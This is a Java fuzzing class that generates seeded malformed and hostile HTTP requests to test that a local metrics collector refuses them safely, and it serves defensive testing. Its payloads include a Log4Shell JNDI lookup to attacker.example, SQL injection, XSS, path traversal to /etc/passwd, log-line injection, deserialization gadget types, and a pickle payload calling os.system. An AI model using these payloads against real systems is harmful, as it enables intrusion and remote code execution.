package dev.latentgauge.collector;

import dev.latentgauge.observation.Wire;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.regex.Pattern;

/**
 * Requests of somebody who means harm, the same for the same seed: bytes that are no HTTP, HTTP
 * that is ambiguous, oversized or cut off, paths that lead elsewhere, bodies that are deep, wide,
 * of other types or of none, files that lie about themselves, and tokens and names that would end a
 * line of a log.
 *
 * <p>What a collector answers to them is a refusal, never that it broke, and it goes on serving. A
 * few are requests with some bytes changed, which may happen to be good ones still. The collector
 * should have a short {@code bodyTime} and {@code idleTime}, for some are never finished.
 */
public final class HostileRequests {

  /** What no log and no answer may have on a line of its own. */
  public static final String MARK = "FORGED-BY-A-HOSTILE-REQUEST";

  /** Ways in which a program tells what it is made of. */
  private static final Pattern INSIDES =
      Pattern.compile(
          "\\b(java|javax|io\\.vertx|io\\.netty|com\\.google|dev\\.latentgauge|ai\\.djl)\\.[a-z]+\\."
              + "|\\bat [\\w.$]+\\(|Exception\\b");

  private static final String[] METHODS = {
    "GET", "PUT", "POST", "DELETE", "HEAD", "PATCH", "TRACE"
  };

  private static final String[] PATHS = {
    "/",
    "/ui/index.html",
    "/ui/lib/uplot/uPlot.esm.js",
    "/metrics",
    "/v1/runs",
    "/v1/runs/hostile",
    "/v1/runs/hostile/observations",
    "/v1/runs/hostile/attempts",
    "/v1/runs/hostile/embeddings?reference=none&layer=a&step=1",
    "/v1/runs/hostile/sketches?layer=a&probes=b&step=1",
    "/v1/comparisons?runs=hostile,other",
    "/v1/comparisons/plane?runs=hostile,other",
    "/v1/runs/hostile/end",
    "/v1/runs/hostile/directive",
    "/v1/references/hostile",
    "/v1/session",
  };

  private static final String[] NASTY = {
    "\r\n" + MARK,
    "\n" + MARK,
    "\u001b[2K\r" + MARK,
    "\u2028" + MARK,
    "\u0085" + MARK,
    "\u202e" + MARK,
    "\u0000",
    "${jndi:ldap://attacker.example/a}",
    "%n%s%x%p",
    "'; DROP TABLE runs; --",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "\ud800",
    "a".repeat(5_000),
  };

  /** A request, one character a byte, and whether it may be served after all. */
  public record Request(String kind, String text, boolean mayBeServed) {
    private static Request of(String kind, byte[] bytes, boolean mayBeServed) {
      return new Request(kind, new String(bytes, StandardCharsets.ISO_8859_1), mayBeServed);
    }
  }

  /** What became of many. */
  public record Outcome(Map<String, Integer> statuses, List<String> violations) {}

  private final Random random;

  /** Requests of a seed. */
  public HostileRequests(long seed) {
    this.random = new Random(seed);
  }

  /** Sends so many, one after the other, and tells what was answered as it must not be. */
  public static Outcome fire(URI collector, long seed, int count) throws IOException {
    HostileRequests requests = new HostileRequests(seed);
    RawClient client = new RawClient(collector);
    Map<String, Integer> statuses = new TreeMap<>();
    List<String> violations = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      Request request = requests.next();
      String answer = client.exchange(request.text());
      List<Integer> answered = RawClient.statuses(answer);
      statuses.merge(request.kind() + " " + answered, 1, Integer::sum);
      if (!isByDesign(request, answered) || INSIDES.matcher(answer).find()) {
        violations.add(
            "request "
                + i
                + " of seed "
                + seed
                + " ("
                + request.kind()
                + "): "
                + quoted(request.text())
                + " was answered "
                + quoted(answer));
      }
    }
    return new Outcome(statuses, violations);
  }

  private static boolean isByDesign(Request request, List<Integer> answered) {
    return answered.stream()
        .allMatch(
            status ->
                (status >= 400 && status < 500)
                    // Of Vert.x itself, to a version of HTTP that there is not.
                    || status == 501
                    || status == 503
                    || status == 507
                    || (request.mayBeServed() && status < 300));
  }

  private static String quoted(String text) {
    String shown = text.length() <= 600 ? text : text.substring(0, 600) + "…";
    return "\"" + shown.replace("\r", "\\r").replace("\n", "\\n") + "\"";
  }

  /** The next request. */
  public Request next() {
    return switch (random.nextInt(12)) {
      case 0 -> noise();
      case 1 -> changed();
      case 2 -> line();
      case 3 -> headers();
      case 4 -> lengths();
      case 5 -> path();
      case 6 -> json();
      case 7 -> file();
      case 8 -> token();
      case 9 -> elsewhere();
      case 10 -> oversized();
      default -> random.nextInt(10) == 0 ? cutOff() : types();
    };
  }

  private Request noise() {
    byte[] bytes = new byte[1 + random.nextInt(300)];
    random.nextBytes(bytes);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    if (random.nextBoolean()) {
      out.writeBytes(ascii(any(METHODS) + " "));
    }
    out.writeBytes(bytes);
    out.writeBytes(ascii("\r\n\r\n"));
    return Request.of("noise", out.toByteArray(), false);
  }

  private Request changed() {
    byte[] bytes = ascii(post("/v1/runs/hostile/observations", "application/json", report(), ""));
    int changes = 1 + random.nextInt(4);
    for (int i = 0; i < changes; i++) {
      bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
    }
    return Request.of("changed", bytes, true);
  }

  private Request line() {
    String method = random.nextBoolean() ? any(METHODS) : nasty();
    String version = any("HTTP/1.1", "HTTP/9.9", "HTTP/2.0", "http/1.1", "", "HTTP/1.1 x", nasty());
    String path = "/nothing" + (random.nextBoolean() ? nasty() : " ");
    return Request.of(
        "line",
        inUtf8(
            method
                + " "
                + path
                + " "
                + version
                + "\r\nHost: localhost\r\nConnection: close\r\n\r\n"),
        false);
  }

  private Request headers() {
    StringBuilder request = new StringBuilder("GET /nothing HTTP/1.1\r\nHost: localhost\r\n");
    int count = 1 + random.nextInt(random.nextInt(20) == 0 ? 3_000 : 5);
    for (int i = 0; i < count; i++) {
      request.append(
          any(
              "X: " + nasty(),
              nasty() + ": x",
              "X : y",
              " folded",
              "\tfolded",
              "no colon",
              ": no name",
              "Cookie: latentgauge=" + nasty(),
              "Origin: " + nasty(),
              "X-Forwarded-For: " + nasty(),
              "Upgrade: h2c",
              "Upgrade: websocket",
              "Expect: " + nasty()));
      request.append(any("\r\n", "\r\n", "\r\n", "\n", "\r"));
    }
    return Request.of("headers", inUtf8(request + "Connection: close\r\n\r\n"), false);
  }

  private Request lengths() {
    String[] lengths = {
      "Content-Length: 5",
      "Content-Length: 7",
      "Content-Length: -1",
      "Content-Length: 1e3",
      "Content-Length: 99999999999999999999",
      "Content-Length:",
      "Content-Length: 5, 6",
      "Transfer-Encoding: chunked",
      "Transfer-Encoding: identity",
      "Transfer-Encoding: xchunked",
      "Transfer-Encoding:\tchunked ",
      "transfer-encoding: chunked, chunked",
    };
    String body = any("0\r\n\r\n", "5\r\nhello\r\n0\r\n\r\n", "zz\r\n", "-1\r\n", "7fffffff\r\nx");
    return Request.of(
        "lengths",
        inUtf8(
            "PUT /v1/runs/hostile HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                + any(lengths)
                + "\r\n"
                + any(lengths)
                + "\r\nConnection: close\r\n\r\n"
                + body),
        false);
  }

  private Request path() {
    String[] steps = {
      "..",
      ".",
      "%2e%2e",
      "%2f",
      "%5c",
      "%00",
      "%",
      "%zz",
      "%c0%ae",
      "//",
      "tokens.json",
      "etc",
      "%0d%0a" + MARK,
      "%1b[31m",
      "%e2%80%a8" + MARK,
      "~",
      ";a=b",
      "?",
      "#",
      "%ff",
    };
    StringBuilder path =
        new StringBuilder(
            any("/", "/ui/", "/ui/lib/", "/v1/runs/", "/v1/references/", "/metrics/"));
    int count = 1 + random.nextInt(6);
    for (int i = 0; i < count; i++) {
      path.append(any(steps)).append(any("/", ""));
    }
    return Request.of(
        "path",
        inUtf8(
            any(METHODS)
                + " "
                + path
                + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"),
        // Dots may well lead to an address that there is.
        true);
  }

  private Request json() {
    String body =
        any(
            "[".repeat(1 + random.nextInt(20_000)),
            "{\"a\":".repeat(1 + random.nextInt(5_000)),
            "{\"observations\":" + "9".repeat(10_000) + "}",
            "{\"observations\":[{}]}",
            "{\"observations\":[" + "{},".repeat(5_000) + "{}]}",
            "{\"observations\":{\"0\":1}}",
            report().replace("0.5", "1e400"),
            report().replace("0.5", "NaN"),
            report().replace("\"step\":1", "\"step\":-1"),
            report().replace("encoder", escaped(nasty())),
            report().replace("encoder", "../" + MARK),
            report().substring(0, 1 + random.nextInt(report().length() - 1)),
            "\"" + escaped(nasty()) + "\"",
            "null",
            "\ufeff{",
            "");
    String path =
        any("/v1/runs/hostile/observations", "/v1/runs/hostile/end", "/v1/runs/hostile/directive");
    return Request.of("json", utf8(path, "application/json", body), false);
  }

  /** Documents that name types, for readers that would make objects of them. */
  private Request types() {
    String type =
        any(
            "com.sun.jndi.rmi.registry.BindingEnumeration",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "com.sun.rowset.JdbcRowSetImpl",
            "org.springframework.context.support.ClassPathXmlApplicationContext");
    String key = any("@class", "@type", "class", "$type", "java.class", "_class", "!!");
    String body =
        any(
            "{\""
                + key
                + "\":\""
                + type
                + "\",\"observations\":[{\""
                + key
                + "\":\""
                + type
                + "\"}]}",
            "[\"" + type + "\",{\"command\":[\"touch\",\"/tmp/x\"]}]",
            "!!" + type + " [[\"id\"]]",
            "\u00ac\u00ed\u0000\u0005sr\u0000\u0011sun.rmi.HashMap");
    return Request.of(
        "types", utf8("/v1/runs/hostile/observations", "application/json", body), false);
  }

  private Request file() {
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    long header =
        switch (random.nextInt(5)) {
          case 0 -> Long.MAX_VALUE;
          case 1 -> -1;
          case 2 -> 1L << 32;
          case 3 -> 0;
          default -> 60;
        };
    for (int i = 0; i < 8; i++) {
      body.write((int) (header >>> (8 * i)));
    }
    body.writeBytes(
        ascii(
            any(
                "{\"anchors\":{\"dtype\":\"F32\",\"shape\":[2147483647,2147483647],\"data_offsets\":[0,1]}}",
                "{\"anchors\":{\"dtype\":\"PICKLE\",\"shape\":[1],\"data_offsets\":[0,4]}}",
                "{\"__metadata__\":{\"format\":\"pt\"}}",
                "{".repeat(60),
                "\u0080\u0004\u0095\u0000cos\nsystem\n(S'id'\ntR.")));
    byte[] noise = new byte[random.nextInt(2_000)];
    random.nextBytes(noise);
    body.writeBytes(noise);
    ByteArrayOutputStream request = new ByteArrayOutputStream();
    request.writeBytes(
        ascii(
            "PUT /v1/references/hostile HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                + "Content-Type: application/octet-stream\r\nContent-Length: "
                + body.size()
                + "\r\n\r\n"));
    request.writeBytes(body.toByteArray());
    return Request.of("file", request.toByteArray(), false);
  }

  private Request token() {
    String credentials =
        any(
            "Bearer " + nasty(),
            nasty(),
            "Bearer",
            "Basic YTpi",
            "Bearer lgtok_" + "0".repeat(64),
            "Bearer " + "x".repeat(7_000),
            "bearer\t" + MARK);
    return Request.of(
        "token",
        inUtf8(
            "GET /nothing HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nAuthorization: "
                + credentials
                + "\r\n\r\n"),
        false);
  }

  private Request elsewhere() {
    String target = any("http://attacker.example/", "*", "attacker.example:443", "/v1/runs");
    return Request.of(
        "elsewhere",
        inUtf8(
            any(METHODS)
                + " "
                + target
                + " HTTP/1.1\r\nHost: "
                + any("attacker.example", "localhost.attacker.example", "10.0.0.1", nasty())
                + "\r\nOrigin: http://attacker.example\r\nConnection: close\r\n\r\n"),
        false);
  }

  private Request oversized() {
    String path = any(PATHS);
    return Request.of(
        "oversized",
        inUtf8(
            any("PUT ", "POST ")
                + path
                + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: "
                + any("application/json", "application/octet-stream", nasty())
                + "\r\nConnection: close\r\nExpect: 100-continue\r\nContent-Length: "
                + any("1073741824", "9223372036854775807", "1048577000000")
                + "\r\n\r\n"),
        false);
  }

  /** Promises more than it sends. */
  private Request cutOff() {
    return Request.of(
        "cut off",
        inUtf8(
            "POST /v1/runs/hostile/observations HTTP/1.1\r\nHost: localhost\r\n"
                + "Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{"),
        false);
  }

  private String nasty() {
    return any(NASTY);
  }

  private String any(String... texts) {
    return texts[random.nextInt(texts.length)];
  }

  private static String report() {
    return Wire.write(List.of(Observations.scored(1, 0.5)));
  }

  /** In JSON, with the characters themselves that JSON does not let through. */
  private String escaped(String text) {
    return random.nextBoolean()
        ? text
        : text.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\u0000");
  }

  private static String post(String path, String type, String body, String more) {
    return "POST "
        + path
        + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: "
        + type
        + "\r\nContent-Length: "
        + body.getBytes(StandardCharsets.UTF_8).length
        + "\r\n"
        + more
        + "\r\n"
        + body;
  }

  private static byte[] utf8(String path, String type, String body) {
    return post(path, type, body, "").getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] inUtf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }
}
